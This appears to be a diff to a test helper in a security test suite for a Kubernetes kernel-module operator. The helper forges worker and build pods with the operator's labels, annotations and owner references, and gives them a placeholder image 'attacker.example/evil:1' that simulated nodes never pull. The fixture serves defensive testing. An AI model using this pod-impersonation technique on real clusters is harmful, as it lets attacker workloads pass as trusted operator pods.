@@ -13,8 +13,17 @@ export interface Forgery {
   readonly configHash?: string
 }
 
+/** What runs in a forged pod. */
+export interface Program {
+  readonly image: string
+  readonly command?: readonly string[]
+  readonly args?: readonly string[]
+}
+/** Nothing pulls it where nodes are simulated. */
+const unpulled: Program = { image: 'attacker.example/evil:1', args: ['loader'] }
+
 /** A pod that Pod Security `restricted` allows. */
-const harmless = (image: string) => ({
+const harmless = ({ image, ...program }: Program) => ({
   restartPolicy: 'Never',
   automountServiceAccountToken: false,
   terminationGracePeriodSeconds: 0,
@@ -23,7 +32,7 @@ const harmless = (image: string) => ({
     {
       name: 'worker',
       image,
-      args: ['loader'],
+      ...program,
       securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
     },
   ],
@@ -65,15 +74,12 @@ export const forgedReport = ({ bootId, kernel }: Forgery['node']) =>
     firmwareHostPath: '/etc',
   })
 
-/**
- * An unprivileged pod that has all of a worker pod's labels, annotations and owners. `image`: what runs in it; nothing
- * pulls it where nodes are simulated.
- */
+/** An unprivileged pod that has all of a worker pod's labels, annotations and owners. */
 export async function forgeWorkerPod(
   story: Scenario,
   { name, module, node, configHash = 'abcdefabcdefabcd' }: Forgery,
   record: { readonly name: string; readonly uid: string },
-  image = 'attacker.example/evil:1',
+  program = unpulled,
 ): Promise<Pod> {
   const { bootId, kernel } = node
   const config = {
@@ -98,7 +104,7 @@ export async function forgeWorkerPod(
     annotations: { [annotations.workerConfig]: JSON.stringify({ action: 'Load', bootId, kernel, config }) },
     ownerReferences: [{ apiVersion, kind: 'NodeModulesConfig', ...record, controller: true }],
   }
-  return await createPod(story, name, metadata, { ...harmless(image), nodeName: node.name })
+  return await createPod(story, name, metadata, { ...harmless(program), nodeName: node.name })
 }
 
 /** Ten pods that wait for ever, with the labels of builds. */
@@ -111,6 +117,6 @@ export async function forgeBuildPods(
       story,
       pod.name,
       { labels: { [labels.partOf]: 'kmm', [labels.resourceType]: 'BuildImage', ...pod.labels } },
-      { ...harmless('attacker.example/evil:1'), nodeSelector: { nowhere: 'yes' } },
+      { ...harmless(unpulled), nodeSelector: { nowhere: 'yes' } },
     )
 }
